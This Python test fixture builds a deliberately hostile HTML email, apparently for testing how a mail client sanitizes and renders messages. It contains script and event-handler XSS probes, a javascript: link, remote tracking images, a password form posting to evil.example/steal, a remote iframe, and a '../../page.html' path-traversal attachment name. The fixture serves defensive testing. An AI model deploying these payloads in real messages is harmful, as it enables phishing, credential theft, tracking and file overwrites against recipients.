"""A hostile HTML message: script, event handlers, javascript: links, CSS tricks, a form, a remote
image and a cid: image, with a PDF and an HTML attachment."""

import base64

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
REMOTE_IMAGE = "https://tracker.example.net/open.png?u=adele"

HTML = f"""<html><head><style>body {{ background: url(https://tracker.example.net/css.png) }}</style>
<script>alert('head')</script></head>
<body onload="alert('onload')">
<p id="greeting"
   style="color: red; background-image: url(https://tracker.example.net/bg.png); position: fixed">Hello Adele</p>
<script>alert('body')</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">Click me</a>
<a href="https://contoso.example/offer">A real link</a>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('svg')"><circle r="5"/></svg>
<img src="{REMOTE_IMAGE}" alt="tracker">
<img src="cid:logo@contoso" alt="logo">
</body></html>"""


def hostile_message() -> bytes:
    """Return the hostile message's bytes."""
    boundary, related = "OUTER-BOUNDARY", "RELATED-BOUNDARY"
    png = base64.b64encode(PIXEL).decode()
    pdf = base64.b64encode(b"%PDF-1.4 fake").decode()
    page = base64.b64encode(b"<script>alert('attachment')</script>").decode()
    text = f"""From: Mallory <mallory@evil.example>
To: Adele Vance <adele@contoso.com>
Subject: Your account
Message-ID: <hostile@evil.example>
Date: Tue, 01 Dec 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{boundary}"

--{boundary}
Content-Type: multipart/related; boundary="{related}"

--{related}
Content-Type: text/html; charset=utf-8

{HTML}
--{related}
Content-Type: image/png
Content-ID: <logo@contoso>
Content-Disposition: inline
Content-Transfer-Encoding: base64

{png}
--{related}--
--{boundary}
Content-Type: application/pdf; name="Invoice März.pdf"
Content-Disposition: attachment; filename*=utf-8''Invoice%20M%C3%A4rz.pdf
Content-Transfer-Encoding: base64

{pdf}
--{boundary}
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename="../../page.html"
Content-Transfer-Encoding: base64

{page}
--{boundary}--
"""
    return text.replace("\n", "\r\n").encode()
